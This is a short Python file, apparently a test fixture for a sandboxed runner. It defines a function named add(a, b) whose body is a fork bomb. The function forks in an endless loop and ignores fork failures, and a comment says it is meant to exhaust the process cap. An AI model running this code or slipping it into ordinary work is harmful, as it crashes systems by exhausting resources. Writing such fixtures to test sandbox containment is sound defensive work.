# A fork bomb in the child the runner forked: every process forks for ever, going on when a fork fails
# (the tree at its process cap).
import os


def add(a, b):
    while True:
        try:
            os.fork()
        except OSError:
            pass
